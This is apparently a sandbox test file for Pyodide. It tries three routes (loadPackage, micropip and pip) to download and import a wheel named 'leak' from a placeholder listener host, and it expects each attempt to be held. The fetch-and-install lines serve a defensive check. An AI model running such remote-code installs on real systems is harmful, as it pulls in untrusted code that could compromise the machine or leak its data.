# outcome: ok
# with: door
# prints: held: loadPackage
# prints: held: micropip
# prints: held: pip
import pyodide_js
async def package():
    await pyodide_js.loadPackage("http://{listener}/leak-1.0-py3-none-any.whl")
    import leak
    return leak
async def by_micropip():
    try:
        import micropip
    except ImportError as error:
        raise OSError(error)
    await micropip.install("http://{listener}/leak-1.0-py3-none-any.whl")
async def by_pip():
    import subprocess, sys
    return subprocess.run([sys.executable or "python", "-m", "pip", "install", "http://{listener}/leak.whl"])
async def package_held():
    try:
        return await package()
    except ImportError as error:
        raise OSError(error)
await door("loadPackage", package_held, 5)
await door("micropip", by_micropip)
await door("pip", by_pip)
